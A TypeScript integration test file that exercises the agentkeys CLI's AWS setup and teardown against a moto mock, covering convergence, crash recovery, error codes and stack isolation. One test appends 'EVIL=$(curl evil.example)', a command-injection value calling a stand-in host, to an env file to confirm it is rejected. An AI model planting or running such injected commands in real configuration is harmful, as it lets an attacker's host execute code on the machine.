// agentkeys setup and teardown against moto over HTTP (started by the harness, KMS patch on).
// moto deviations this file meets (aws-and-moto.md §1): SES never verifies identities and never
// issues DKIM tokens (steps 5, 6, 9 end "waiting"); IAM authorization is not modelled; EIPs are 127.x;
// SES DeleteReceiptRule is not implemented (src/sandbox/moto-server.py adds it, as AWS documents it).
import { spawn } from 'node:child_process';
import { appendFileSync, existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { createSetupAws } from '../../src/aws/setup-api.js';
import { createKmsApi } from '../../src/aws/kms.js';
import { CLI, runCli } from '../helpers/cli.js';
import { resetMoto, useMoto } from '../helpers/moto.js';
import { snapshotAccount } from '../helpers/account-snapshot.js';
import { seedAccount, stackFiles, type StackFiles } from '../helpers/setup-harness.js';

const moto = useMoto();
// Every test builds stacks with the shipped (fixed) names, so each starts from an empty account.
beforeEach(async () => resetMoto(moto.current));
const aws = () => createSetupAws({ region: 'us-east-1', retryDelayMs: 0 });

async function setup(files: StackFiles, args: string[] = [], env: Record<string, string> = {}) {
  const test = files.operator.endsWith('.test.env') ? ['--test'] : [];
  const range = args.includes('--only-step') ? [] : ['--to-step', '16'];
  const r = await runCli(['--json', 'setup', ...test, ...range, ...args], {
    cwd: files.cwd,
    env: { ...moto.current.env, ...env },
  });
  let out:
    | {
        steps: { id: string; status: string; changes: unknown[] }[];
        calls: { total: number; mutating: number };
        wallMs: number;
        error?: { code: string };
      }
    | undefined;
  try {
    out = JSON.parse(r.stdout);
  } catch {
    throw new Error(`setup printed no JSON (exit ${r.code}): ${r.stderr}${r.stdout}`);
  }
  return { code: r.code, out: out!, stderr: r.stderr };
}

const statuses = (out: { steps: { id: string; status: string }[] }) =>
  Object.fromEntries(out.steps.map((s) => [s.id, s.status]));

describe('setup from an empty account', () => {
  it('first run: every step done or waiting; second run: zero mutating calls; --plan exits 0', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const first = await setup(files);
    expect(first.code).toBe(0);
    for (const s of first.out.steps) expect(['done', 'waiting']).toContain(s.status);
    expect(statuses(first.out)).toMatchObject({
      eip: 'done',
      'ses-domain': 'waiting',
      dns: 'waiting',
      'mail-bucket': 'done',
      'data-role': 'done',
      'data-classes': 'done',
      'kms-audit-key': 'done',
      summary: 'done',
    });
    const second = await setup(files);
    expect(second.code).toBe(0);
    expect(second.out.calls.mutating).toBe(0);
    expect(second.out.steps.every((s) => s.changes.length === 0)).toBe(true);
    const plan = await setup(files, ['--plan']);
    expect(plan.code).toBe(0);
    // --verify runs the probes (the KMS key signs, and its published public key verifies it).
    const verified = await setup(files, ['--verify']);
    expect(verified.code).toBe(0);
    const probes = Object.fromEntries(
      (verified.out.steps as { id: string; verify?: string }[]).filter((x) => x.verify).map((x) => [x.id, x.verify]),
    );
    expect(probes).toEqual({ eip: 'ok', 'mail-bucket': 'ok', 'kms-audit-key': 'ok' });
    // --strict: the steps waiting on SES make the run fail.
    expect((await setup(files, ['--strict'])).code).toBe(1);
    // The write-backs landed in the env files, comments intact.
    const broker = readFileSync(files.broker, 'utf8');
    expect(broker).toMatch(/^EIP=127\.\d+\.\d+\.\d+$/m);
    expect(broker).toMatch(/^# broker\.env/m);
    // Access keys went to a 0600 file and were not printed.
    const creds = path.join(files.cwd, '.agentkeys/credentials/test.ini');
    expect(statSync(creds).mode & 0o777).toBe(0o600);
    expect(readFileSync(creds, 'utf8')).toMatch(/\[agentkeys-daemon-test\][\s\S]*aws_secret_access_key/);
    expect(first.stderr + JSON.stringify(first.out)).not.toMatch(/aws_secret_access_key|"secret"/);
  });

  it('--plan on an empty account lists the changes, exits 4 and writes nothing', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const before = readFileSync(files.broker, 'utf8');
    const plan = await setup(files, ['--plan']);
    expect(plan.code).toBe(4);
    expect(plan.out.calls.mutating).toBe(0);
    expect(statuses(plan.out)).toMatchObject({ eip: 'pending', 'mail-bucket': 'pending' });
    expect(readFileSync(files.broker, 'utf8')).toBe(before);
  });

  it('--only-step by number or id, and an unknown step is UNKNOWN_STEP (exit 2)', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const only = await setup(files, ['--only-step', 'mail-bucket']);
    expect(only.out.steps.map((s) => s.id)).toEqual(['mail-bucket']);
    expect((await setup(files, ['--only-step', '7'])).out.steps[0]!.changes).toEqual([]);
    const bad = await runCli(['--json', 'setup', '--test', '--only-step', '99'], {
      cwd: files.cwd,
      env: moto.current.env,
    });
    expect(bad.code).toBe(2);
    expect(JSON.parse(bad.stdout).error.code).toBe('UNKNOWN_STEP');
  });
});

describe('convergence', () => {
  it('a partly built account with a drifted policy converges', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const api = aws();
    // By hand: the mail bucket with a wrong policy, the daemon user, and a vault role with a broad policy.
    await api.createBucket('agentkeys-mail-test-123456789012');
    await api.putBucketPolicy(
      'agentkeys-mail-test-123456789012',
      JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'AllowSESWriteInbound',
            Effect: 'Allow',
            Principal: { Service: 'ses.amazonaws.com' },
            Action: 's3:PutObject',
            Resource: 'arn:aws:s3:::agentkeys-mail-test-123456789012/*',
          },
        ],
      }),
    );
    await api.createUser('agentkeys-daemon-test');
    await api.createRole(
      'agentkeys-vault-role-test',
      JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::123456789012:root' }, Action: 'sts:AssumeRole' },
        ],
      }),
      'by hand',
    );
    await api.putRolePolicy(
      'agentkeys-vault-role-test',
      'agentkeys-vault-role-test-inline',
      JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] }),
    );
    const first = await setup(files);
    expect(first.code).toBe(0);
    const policy = JSON.parse((await api.getBucketPolicy('agentkeys-mail-test-123456789012'))!);
    expect(policy.Statement.map((s: { Sid: string }) => s.Sid).sort()).toEqual([
      'AllowDaemonRead',
      'AllowSESWriteInbound',
    ]);
    expect(await api.getRolePolicy('agentkeys-vault-role-test', 'agentkeys-vault-role-test-inline')).not.toMatch(
      /"s3:\*"/,
    );
    expect((await setup(files)).out.calls.mutating).toBe(0);
  });

  it('a run killed mid-way (SIGKILL) converges on the next run with nothing duplicated', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    // The run pauses after step 11 (its receipt written) by a test hook, and is killed right there.
    const child = spawn(process.execPath, ['--', CLI, '--json', 'setup', '--test', '--to-step', '16'], {
      cwd: files.cwd,
      env: { ...process.env, ...moto.current.env, AGENTKEYS_TEST_PAUSE_AFTER_STEP: '11' },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    await new Promise<void>((resolve, reject) => {
      let err = '';
      child.stderr!.on('data', (d: Buffer) => {
        err += d.toString();
        if (err.includes('paused after step 11')) resolve();
      });
      child.once('exit', (code) => reject(new Error(`setup exited ${code} before step 11: ${err}`)));
    });
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    const receiptFile = path.join(files.cwd, '.agentkeys/setup/test.receipt.json');
    const killed = JSON.parse(readFileSync(receiptFile, 'utf8'));
    expect(killed.finishedAt).toBeUndefined();
    expect(killed.steps.map((st: { num: number }) => st.num)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    const interrupted = await runCli(['setup', '--test', '--to-step', '16', '--plan'], {
      cwd: files.cwd,
      env: moto.current.env,
    });
    expect(interrupted.stdout).toMatch(/stopped after step 11 data-role/);
    const next = await setup(files);
    expect(next.code).toBe(0);
    const api = aws();
    expect(await api.addressesByTag('agentkeys-broker-eip-test')).toHaveLength(1);
    expect(await api.listAccessKeys('agentkeys-daemon-test')).toHaveLength(1);
    expect((await setup(files)).out.calls.mutating).toBe(0);
    const receipt = JSON.parse(readFileSync(path.join(files.cwd, '.agentkeys/setup/test.receipt.json'), 'utf8'));
    expect(receipt.steps.length).toBe(16);
    expect(receipt.finishedAt).toBeDefined();
  });
});

describe('named errors', () => {
  it('a bad env file is ENV_FILE_INVALID, missing keys STACK_CONFIG_INVALID (exit 2)', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const { appendFileSync, writeFileSync } = await import('node:fs');
    appendFileSync(files.operator, 'EVIL=$(curl evil.example)\n');
    let r = await runCli(['--json', 'setup', '--test'], { cwd: files.cwd, env: moto.current.env });
    expect([r.code, JSON.parse(r.stdout).error.code]).toEqual([2, 'ENV_FILE_INVALID']);
    writeFileSync(files.operator, 'ACCOUNT_ID=123\n');
    r = await runCli(['--json', 'setup', '--test'], { cwd: files.cwd, env: moto.current.env });
    expect([r.code, JSON.parse(r.stdout).error.code]).toEqual([2, 'STACK_CONFIG_INVALID']);
  });

  it('a test stack whose env file names a prod resource is refused before any call', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const { setEnvValue } = await import('../../src/config/env-writeback.js');
    await setEnvValue(files.operator, 'VAULT_BUCKET', 'agentkeys-vault-123456789012');
    const r = await runCli(['--json', 'setup', '--test'], { cwd: files.cwd, env: moto.current.env });
    expect(JSON.parse(r.stdout).error).toMatchObject({ code: 'STACK_CONFIG_INVALID' });
    expect(JSON.parse(r.stdout).error.details.join()).toMatch(/agentkeys-vault-123456789012/);
  });

  it('the wrong account is WRONG_ACCOUNT and nothing is changed', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const { setEnvValue } = await import('../../src/config/env-writeback.js');
    await setEnvValue(files.operator, 'ACCOUNT_ID', '999999999999');
    await setEnvValue(files.broker, 'ACCOUNT_ID', '999999999999');
    const r = await runCli(['--json', 'setup', '--test'], { cwd: files.cwd, env: moto.current.env });
    expect([r.code, JSON.parse(r.stdout).error.code]).toEqual([2, 'WRONG_ACCOUNT']);
  });

  it('a caller outside the allow-list is CALLER_NOT_ALLOWED', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const r = await runCli(
      ['--json', 'setup', '--test', '--allow-principal', 'arn:aws:iam::123456789012:user/agentkeys-admin'],
      { cwd: files.cwd, env: moto.current.env },
    );
    expect(JSON.parse(r.stdout).error.code).toBe('CALLER_NOT_ALLOWED');
  });
});

describe('test and prod stacks', () => {
  it('are disjoint, and tearing down one leaves the other intact; a second teardown is a no-op', async () => {
    const { zoneId } = await seedAccount();
    const cwd = (await stackFiles(zoneId, { test: true })).cwd;
    const test = await stackFiles(zoneId, { test: true, cwd });
    const prod = await stackFiles(zoneId, { test: false, cwd });
    expect((await setup(test)).code).toBe(0);
    const api = aws();
    // A --test run never touched a prod name.
    expect(await api.headBucket('agentkeys-mail-123456789012')).toBe('missing');
    expect(await api.getUser('agentkeys-daemon')).toBeUndefined();
    expect(await api.getRole('agentkeys-data-role')).toBeUndefined();
    const prodRun = await setup(prod);
    expect(prodRun.out.steps.filter((x) => x.status !== 'done' && x.status !== 'waiting')).toEqual([]);
    expect(await api.describeRuleSet('agentkeys')).toEqual(
      expect.arrayContaining(['agentkeys-inbound', 'agentkeys-inbound-test']),
    );
    const down = await runCli(['--json', 'teardown', '--test', '--yes'], { cwd, env: moto.current.env });
    expect({ code: down.code, err: down.stderr.slice(0, 600) }).toEqual({ code: 0, err: '' });
    expect(JSON.parse(down.stdout).deleted.length).toBeGreaterThan(10);
    expect(await api.headBucket('agentkeys-mail-test-123456789012')).toBe('missing');
    expect(await api.getRole('agentkeys-data-role-test')).toBeUndefined();
    expect(existsSync(path.join(cwd, '.agentkeys/credentials/test.ini'))).toBe(false);
    expect(existsSync(path.join(cwd, '.agentkeys/credentials/prod.ini'))).toBe(true);
    // Prod is intact, including its rule in the shared rule set, which therefore stays.
    expect(await api.headBucket('agentkeys-mail-123456789012')).toBe('exists');
    expect(await api.getRole('agentkeys-data-role')).toBeDefined();
    expect(await api.describeRuleSet('agentkeys')).toEqual(['agentkeys-inbound']);
    expect((await setup(prod)).out.calls.mutating).toBe(0);
    const again = await runCli(['--json', 'teardown', '--test', '--yes'], { cwd, env: moto.current.env });
    expect(JSON.parse(again.stdout).deleted).toEqual([]);
  });

  it('teardown is derived from the steps: it returns the account to what it was before setup, KMS keys, the witness and the lock bucket aside', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    appendFileSync(files.operator, '\nEVM_SIGNER=true\n');
    const before = await snapshotAccount(zoneId);
    const up = await setup(files, ['--to-step', '22']);
    expect(up.out.calls.mutating).toBeGreaterThan(30);
    const built = await snapshotAccount(zoneId);
    expect(built).not.toEqual(before);
    expect(built.instanceProfiles).toEqual(['agentkeys-broker-host-test']);
    expect(built.profileAssociations).toEqual([
      `${files.instanceId} arn:aws:iam::123456789012:instance-profile/agentkeys-broker-host-test`,
    ]);
    const down = await runCli(['--json', 'teardown', '--test', '--yes'], { cwd: files.cwd, env: moto.current.env });
    expect(down.code, down.stderr).toBe(0);
    // Reverse step order: the audit grant (21) first, the EIP (4) and its write-back last.
    const deleted = JSON.parse(down.stdout).deleted as string[];
    expect(deleted.slice(0, 3)).toEqual([
      'agentkeys-broker-host-test/agentkeys-audit-sign-test',
      `instance profile agentkeys-broker-host-test on ${files.instanceId}`,
      'instance profile agentkeys-broker-host-test',
    ]);
    expect(deleted.at(-1)).toMatch(/^EIP in /);
    expect(deleted.findIndex((d) => d.includes('DNS record'))).toBeLessThan(
      deleted.findIndex((d) => d.startsWith('Elastic IP')),
    );
    // The witness bucket stays on purpose: Object Lock in compliance mode is the point of it. So does
    // the lock bucket both stacks share (empty: the run's lock was released).
    const after = await snapshotAccount(zoneId);
    expect(after.buckets).toEqual(['agentkeys-locks-123456789012', 'agentkeys-witness-test-123456789012']);
    expect({ ...after, buckets: [] }).toEqual(before);
    expect(existsSync(path.join(files.cwd, '.agentkeys/credentials/test.ini'))).toBe(false);
  });

  it('teardown without a terminal and without --yes deletes nothing (exit 1)', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    await setup(files);
    const r = await runCli(['teardown', '--test'], { cwd: files.cwd, env: moto.current.env });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/CONFIRMATION_REQUIRED/);
    expect(await aws().headBucket('agentkeys-mail-test-123456789012')).toBe('exists');
  });
});

describe('step 18: the optional EVM signer (seed 002)', () => {
  it('is a no-op until EVM_SIGNER=true; then a secp256k1 key and a role limited to Sign/GetPublicKey/DescribeKey on its ARN', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    const off = await setup(files, ['--only-step', 'evm-signer']);
    expect(off.out.steps[0]).toMatchObject({ id: 'evm-signer', status: 'done' });
    expect(off.out.calls.mutating).toBe(0);
    appendFileSync(files.operator, '\nEVM_SIGNER=true\n');
    const plan = await setup(files, ['--only-step', '18', '--plan']);
    expect(plan.code).toBe(4);
    const on = await setup(files, ['--only-step', '18']);
    expect(on.code, on.stderr).toBe(0);
    expect(on.out.steps[0]!.status).toBe('done');
    const kms = createKmsApi({ region: 'us-east-1' });
    const key = await kms.describeKey('alias/agentkeys-evm-test');
    expect(key.KeySpec).toBe('ECC_SECG_P256K1');
    const doc = JSON.parse((await aws().getRolePolicy('agentkeys-evm-signer-test', 'agentkeys-evm-signer-test-kms'))!);
    expect(doc.Statement).toEqual([
      { Effect: 'Allow', Action: ['kms:Sign', 'kms:GetPublicKey', 'kms:DescribeKey'], Resource: key.Arn },
    ]);
    const again = await setup(files, ['--only-step', '18']);
    expect(again.out.calls.mutating).toBe(0);
    // Drift (a broader grant) is found and put back.
    await aws().putRolePolicy(
      'agentkeys-evm-signer-test',
      'agentkeys-evm-signer-test-kms',
      JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'kms:*', Resource: '*' }] }),
    );
    expect((await setup(files, ['--only-step', '18', '--plan'])).code).toBe(4);
    await setup(files, ['--only-step', '18']);
    expect(
      JSON.parse((await aws().getRolePolicy('agentkeys-evm-signer-test', 'agentkeys-evm-signer-test-kms'))!)
        .Statement[0].Resource,
    ).toBe(key.Arn);
    // Teardown removes the role and keeps the key (its address may hold funds).
    const down = await runCli(['--json', 'teardown', '--test', '--yes'], { cwd: files.cwd, env: moto.current.env });
    expect(down.code, down.stderr).toBe(0);
    expect(await aws().getRole('agentkeys-evm-signer-test')).toBeUndefined();
    expect((await kms.describeKey('alias/agentkeys-evm-test')).KeyState).toBe('Enabled');
  });
});

describe('the settings file and the stack file', () => {
  it('agentkeys --env-file settings.env setup --stack-env F reads each as what it is; setup --env-file F still works, with a note', async () => {
    const { zoneId } = await seedAccount();
    const files = await stackFiles(zoneId, { test: true });
    writeFileSync(path.join(files.cwd, 'settings.env'), 'AGENTKEYS_DIR=custom-dir\n');
    const both = await runCli(
      ['--env-file', 'settings.env', '--json', 'setup', '--test', '--to-step', '12', '--stack-env', files.operator],
      { cwd: files.cwd, env: moto.current.env },
    );
    expect(both.code, both.stderr).toBe(0);
    expect(existsSync(path.join(files.cwd, 'custom-dir/credentials/test.ini'))).toBe(true); // settings applied
    expect(existsSync(path.join(files.cwd, '.agentkeys/credentials/test.ini'))).toBe(false);
    const old = await runCli(['--json', 'setup', '--test', '--only-step', '4', '--env-file', files.operator], {
      cwd: files.cwd,
      env: moto.current.env,
    });
    expect(old.code, old.stderr).toBe(0);
    expect(old.stderr).toContain('--env-file F is deprecated for the stack');
  });
});
